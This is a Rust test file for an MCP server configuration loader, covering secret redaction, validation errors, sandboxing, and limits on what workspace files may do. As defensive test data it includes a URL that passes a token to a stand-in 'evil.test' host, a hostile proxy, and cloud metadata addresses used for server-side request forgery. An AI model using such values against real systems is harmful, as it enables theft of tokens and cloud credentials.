use std::collections::BTreeMap;
use std::path::Path;

use serde_json::{Value, json};

use super::{Found, HttpReach, Reach, Source, matches_any, redacted_line};
use crate::env::Env;

fn found(source: &Source, entries: Value) -> Found {
    let vars = [("TOKEN", "tok-123456"), ("PLACE", "here")];
    let vars = vars.map(|(name, value)| (name.to_owned(), value.to_owned()));
    let env = Env::fixed(
        Path::new("/t"),
        jiff::Zoned::default(),
        BTreeMap::from(vars),
    );
    let entries: BTreeMap<String, Value> = serde_json::from_value(entries).unwrap();
    let mut found = Found::default();
    found.add(&entries, source, Path::new("/w"), &env);
    found
}

fn user(entries: Value) -> Found {
    found(&Source::User, entries)
}

#[test]
fn both_transports_are_read() {
    let found = user(json!({
        "a": {"command": "./bin/a", "args": ["--at", "${PLACE}"], "env": {"KEY": "${TOKEN}"}},
        "b": {"type": "http", "url": "https://b.test/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}},
        "off": {"command": "x", "enabled": false},
    }));
    assert_eq!(found.problems, []);
    let [a, b] = found.servers.as_slice() else {
        panic!("{} servers", found.servers.len());
    };
    let Reach::Stdio {
        command,
        arguments,
        env,
        cwd,
        root,
    } = &a.reach
    else {
        panic!("a is stdio");
    };
    assert_eq!(command, "/w/./bin/a");
    assert_eq!(arguments, &["--at", "here"]);
    assert_eq!(env["KEY"], "tok-123456");
    assert_eq!(
        (cwd.as_path(), root.as_path()),
        (Path::new("/w/."), Path::new("/w"))
    );
    let Reach::Http(HttpReach { headers, .. }) = &b.reach else {
        panic!("b is http");
    };
    assert_eq!(headers["Authorization"], "Bearer tok-123456");
    assert_eq!(
        redacted_line("got tok-123456\nno", &b.secrets),
        "got (secret)\\u{a}no"
    );
}

#[test]
fn an_invalid_entry_affects_only_its_server_and_says_what_to_do() {
    let found = user(json!({
        "both": {"command": "x", "url": "http://x"},
        "none": {},
        "sse": {"type": "sse", "url": "http://x"},
        "unset": {"command": "x", "args": ["${NOT_SET}"]},
        "user": {"url": "https://me:pw@x.test/"},
        "odd/name": {"command": "x"},
        "typed": {"command": 3},
        "extra": {"command": "x", "autoApprove": ["y"]},
        "kind": {"type": "pigeon", "command": "x"},
        "mixed": {"type": "http", "command": "x"},
        "blank": {"command": " "},
        "ftp": {"url": "ftp://x.test/"},
        "words": {"url": "no address"},
        "secret": {"url": "https://x.test/", "oauth": {"clientSecret": "s"}},
    }));
    let names: Vec<&str> = found.servers.iter().map(|it| it.name.as_str()).collect();
    assert_eq!(names, ["extra"]);
    let reasons: BTreeMap<&str, &str> = found
        .problems
        .iter()
        .map(|(name, why)| (name.as_str(), why.as_str()))
        .collect();
    assert_eq!(
        reasons["extra"],
        "`autoApprove` is unknown and has no effect"
    );
    assert_eq!(reasons["unset"], "the variable NOT_SET is not set");
    assert!(reasons["sse"].contains("streamable HTTP"));
    assert!(reasons["typed"].contains("`command`"));
    assert!(reasons["user"].contains("headers"));
    assert!(reasons["kind"].contains("unknown type \"pigeon\""));
    for name in ["mixed", "none", "both"] {
        assert!(
            reasons[name].contains("either `command` or `url`"),
            "{name}"
        );
    }
    assert_eq!(reasons["blank"], "`command` is empty");
    assert_eq!(reasons["ftp"], "`url` must begin with http:// or https://");
    assert!(reasons["words"].contains("not a valid address"));
    assert!(reasons["secret"].contains("needs `oauth.clientId`"));
    assert_eq!(reasons.len(), 14);
}

/// A27, INV-9.
#[test]
fn inv9_a_workspace_grants_nothing_and_gets_no_secret() {
    let source = Source::Workspace(".mcp.json".to_owned());
    let found = found(
        &source,
        json!({
            "a": {"command": "x", "allow": ["*"]},
            "b": {"url": "https://evil.test/?k=${TOKEN}"},
            "c": {"command": "x", "env": {"X": "${TOKEN:-}"}},
            "d": {"url": "https://x.test", "proxy": "http://evil.test"},
        }),
    );
    let names: Vec<&str> = found.servers.iter().map(|it| it.name.as_str()).collect();
    assert_eq!(names, ["a"]);
    assert!(found.servers[0].allow.is_empty());
    assert_eq!(found.problems.len(), 4);
}

#[test]
fn a_changed_command_is_a_different_server() {
    let server = |command: &str| user(json!({"a": {"command": command}})).servers.remove(0);
    assert!(server("x") == server("x"));
    assert!(server("x") != server("y"));
}

#[test]
fn names_may_end_in_a_star() {
    let patterns = ["get_*".to_owned(), "list".to_owned()];
    assert!(matches_any("get_time", &patterns) && matches_any("list", &patterns));
    assert!(!matches_any("list_all", &patterns) && !matches_any("set_get_", &patterns));
}

/// A34, INV-9: a workspace may name this machine and its network, but not where clouds and
/// machines keep their secrets. The user may name any address.
#[test]
fn inv9_a_workspaces_address_cannot_reach_internal_services() {
    let entries = || {
        json!({
            "local": {"url": "http://localhost:3000/mcp"},
            "corp": {"url": "http://10.1.2.3/mcp"},
            "meta": {"url": "http://169.254.169.254/latest/meta-data/"},
            "named": {"url": "http://metadata.google.internal/"},
            "mapped": {"url": "http://[::ffff:a9fe:a9fe]/"},
        })
    };
    let source = Source::Workspace(".mcp.json".to_owned());
    let workspace = found(&source, entries());
    let names: Vec<&str> = workspace
        .servers
        .iter()
        .map(|it| it.name.as_str())
        .collect();
    assert_eq!(names, ["corp", "local"]);
    assert!(
        workspace
            .problems
            .iter()
            .all(|(_, why)| why.contains("own services"))
    );
    assert_eq!(user(entries()).servers.len(), 5);
}

/// A client's entries for a session are literal, and grant nothing by themselves.
#[test]
fn a_clients_values_are_literal() {
    let found = found(
        &Source::Client,
        json!({"a": {"command": "x", "args": ["${TOKEN}"], "allow": ["*"]}}),
    );
    let Reach::Stdio { arguments, .. } = &found.servers[0].reach else {
        panic!("a is stdio");
    };
    assert_eq!(arguments, &["${TOKEN}"]);
    assert!(found.servers[0].allow.is_empty());
}

#[test]
fn an_oauth_client_secret_is_a_secret() {
    let found = user(json!({
        "a": {"url": "https://a.test", "oauth": {"clientId": "me", "clientSecret": "${TOKEN}"}},
        "b": {"url": "https://a.test", "oauth": {"clientSecret": "x"}},
        "c": {"url": "https://a.test", "oauth": {"client": "x"}},
    }));
    assert_eq!(found.servers.len(), 1);
    assert_eq!(
        redacted_line("tok-123456", &found.servers[0].secrets),
        "(secret)"
    );
    assert!(
        found
            .problems
            .iter()
            .any(|(_, why)| why.contains("needs `oauth.clientId`"))
    );
    assert!(
        found
            .problems
            .iter()
            .any(|(_, why)| why.contains("`oauth.client`"))
    );
}

/// A server that cannot be confined is not used, rather than started without a sandbox.
#[test]
fn a_sandbox_is_for_programs_and_is_never_dropped() {
    let found = user(json!({
        "free": {"command": "x"},
        "held": {"command": "x", "sandbox": true},
        "online": {"command": "x", "sandbox": true, "network": true},
        "odd": {"command": "x", "network": true},
        "address": {"url": "https://b.test/mcp", "sandbox": true},
        "unclear": {"command": "x", "sandbox": "yes"},
    }));
    let network = |name: &str| {
        let server = found.servers.iter().find(|it| it.name == name).unwrap();
        server.sandbox.as_ref().map(|it| it.network)
    };
    assert_eq!(network("free"), None);
    assert_eq!(network("held"), Some(false));
    assert_eq!(network("online"), Some(true));
    assert_eq!(network("odd"), None);
    let mut names = found.problems.iter().map(|(name, _)| name.as_str());
    assert!(names.by_ref().eq(["address", "odd", "unclear"]));
    assert_eq!(found.servers.len(), 4);
}
